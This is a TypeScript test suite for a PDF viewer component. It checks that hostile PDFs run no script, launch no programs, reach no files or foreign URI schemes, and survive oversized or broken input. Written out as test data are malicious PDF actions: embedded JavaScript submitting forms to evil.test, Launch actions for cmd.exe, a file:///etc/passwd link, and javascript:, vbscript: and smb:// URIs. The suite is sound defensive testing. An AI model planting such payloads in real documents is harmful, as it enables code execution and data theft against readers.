import { expect } from 'chai';
import type { LitElement } from 'lit';
import { builtinViewers } from '../../builtin.ts';
import { sampleArtifact, sampleContent } from '../../suite/sample-content.ts';
import type { Viewer } from '../../viewer.ts';
import { sampleBook, type SampleBook } from '../samples/sample-book.ts';
import { pdfOf, samplePdf } from '../samples/sample-pdf.ts';
import { until } from '../../suite/until.ts';

const row = builtinViewers.find(({ id }) => id === 'pdf')!;
type PdfViewer = Viewer & LitElement;
const all = (viewer: Viewer, selector: string) => [...viewer.shadowRoot!.querySelectorAll<HTMLElement>(selector)];

function make(bytes: Uint8Array<ArrayBuffer>): PdfViewer {
  const viewer = document.createElement(row.tagName) as PdfViewer;
  viewer.artifact = sampleArtifact('hostile.pdf', 'application/pdf');
  viewer.content = sampleContent(viewer.artifact, bytes);
  viewer.style.cssText = 'display:block;inline-size:800px;block-size:500px';
  document.body.append(viewer);
  return viewer;
}
async function show(bytes: Uint8Array<ArrayBuffer>): Promise<PdfViewer> {
  const viewer = make(bytes);
  await viewer.load(new AbortController().signal);
  await until(() => all(viewer, '.textLayer').length > 0, 'the text of a page');
  return viewer;
}
const book = (more: Omit<SampleBook, 'pages'>) => show(sampleBook({ pages: 2, ...more }));
const failure = (bytes: Uint8Array<ArrayBuffer>) => make(bytes).load(new AbortController().signal).then(() => 'shown', (error: Error) => error.message);

describe('a hostile PDF', () => {
  before(() => row.load());
  afterEach(() => {
    for (const viewer of document.querySelectorAll<PdfViewer>(row.tagName)) {
      viewer.dispose?.();
      viewer.remove();
    }
  });

  it('runs no script: when it is opened, by name, on a page, behind a link or a button', async () => {
    const script = '<< /S /JavaScript /JS (globalThis.pwned = 1; app.alert\\(1\\); this.submitForm\\("https://evil.test/"\\);) >>';
    const asked = new Set<string>();
    const observer = new PerformanceObserver((list) => list.getEntries().forEach(({ name }) => asked.add(name)));
    observer.observe({ type: 'resource' });
    const viewer = await book({
      catalog: `/OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /AcroForm << /Fields [#0] /XFA (<xdp/>) >>`,
      links: [`/A ${script}`, `/AA << /U ${script} >>`],
      more: () => [`<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 0 100 100] /A << /S /SubmitForm /F << /FS /URL /F (https://evil.test/) >> >> >>`],
    });
    expect(all(viewer, '.page > a, input[type=button], form, iframe, object, embed')).to.deep.equal([]);
    all(viewer, '.page').forEach((page) => page.click());
    await new Promise((resolve) => setTimeout(resolve, 100));
    observer.disconnect();
    expect('pwned' in globalThis).to.equal(false);
    expect([...asked].filter((address) => address.includes('evil.test'))).to.deep.equal([]);
  });

  it('launches nothing and leads to no program, file of the machine or other scheme', async () => {
    const viewer = await book({
      links: [
        '/A << /S /Launch /F (cmd.exe) >>',
        '/A << /S /Launch /Win << /F (calc.exe) >> >>',
        '/A << /S /GoToR /F (file:///etc/passwd) /D [0 /Fit] >>',
        '/A << /S /GoToR /F (other.pdf) /D [0 /Fit] >>',
        '/A << /S /URI /URI (javascript:alert\\(1\\)) >>',
        '/A << /S /URI /URI (java\\tscript:alert\\(1\\)) >>',
        '/A << /S /URI /URI (data:text/html,<script>1</script>) >>',
        '/A << /S /URI /URI (vbscript:x) >>',
        '/A << /S /URI /URI (smb://evil.test/share) >>',
        '/A << /S /ImportData /F (secrets.fdf) >>',
        '/A << /S /URI /URI (https://good.test/) >>',
      ],
    });
    await until(() => all(viewer, '.page > a').length > 0, 'the links');
    const links = all(viewer, '.page > a') as HTMLAnchorElement[];
    // Those to files have no address: such a file is looked for among those of the canvas, and said to be missing.
    expect(links.map(({ href, title }) => `${href} ${title}`)).to.deep.equal([' cmd.exe', ' etc/passwd', ' other.pdf', 'https://good.test/ https://good.test/']);
    const opened: unknown[] = [];
    viewer.addEventListener('mcp-sibling-open', ({ detail }) => opened.push(detail));
    for (const name of ['cmd.exe', 'passwd', 'other.pdf']) {
      links.find(({ title }) => title.endsWith(name))!.click();
      await until(() => viewer.shadowRoot!.textContent.includes(`“${name}” is not among the files here`), `${name} is said to be missing`);
    }
    expect(opened).to.deep.equal([]);
  });

  it('goes nowhere by a step that is none: menus and printers stay shut', async () => {
    const viewer = await book({ links: ['/A << /S /Named /N /Print >>', '/A << /S /Named /N /SaveAs >>', '/A << /S /Named /N /constructor >>'] });
    await until(() => all(viewer, '.page > a').length === 3, 'the links');
    for (const link of all(viewer, '.page > a')) link.click();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(viewer.savePosition!()).to.include({ page: 0 });
  });

  it('draws pages of any size within what a browser can hold', async () => {
    for (const size of [[200_000, 200_000], [3, 150_000], [150_000, 3]] as const) {
      const viewer = await show(await samplePdf({ pages: [['huge']], sizes: [size] }));
      viewer.zoom!(4);
      await until(() => all(viewer, '.page canvas').length === 1, `a page of ${size.join(' × ')}`);
      const { width, height } = all(viewer, '.page canvas')[0] as HTMLCanvasElement;
      expect(width * height).to.be.at.most(16_100_000);
      expect(Math.max(width, height)).to.be.at.most(16_384);
      viewer.dispose!();
      viewer.remove();
    }
  });

  it('believes no page count that the file cannot show', async () => {
    const text = new TextDecoder('latin1').decode(await samplePdf({ pages: [['one']] })).replace('/Count 1 ', '/Count 9 ').replace('/Count 9 ', '/Count 9000000');
    const viewer = await show(Uint8Array.from(text, (char) => char.charCodeAt(0)));
    expect(all(viewer, '.where')[0]!.textContent).to.include('of 1').and.not.include('9');
  });

  it('is told when it is empty, cut off at its head, or only says that it is a PDF', async () => {
    const bytes = await samplePdf({ pages: [['a']] });
    for (const broken of [new Uint8Array(), bytes.slice(0, 60), new TextEncoder().encode('%PDF-1.7\n')]) expect(await failure(broken)).to.match(/not a readable PDF/);
  });

  it('is told in a sentence for readers where pdf.js stumbles over its bytes', async () => {
    expect(await failure(pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids \x003 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R >>']))).to.match(/not a readable PDF/);
  });

  it('is put together again as far as it goes when its end is missing', async () => {
    const bytes = await samplePdf({ pages: [['what is left']] });
    const viewer = await show(bytes.slice(0, bytes.length - 18));
    expect(all(viewer, '.textLayer')[0]!.textContent).to.include('what is left');
  });
});
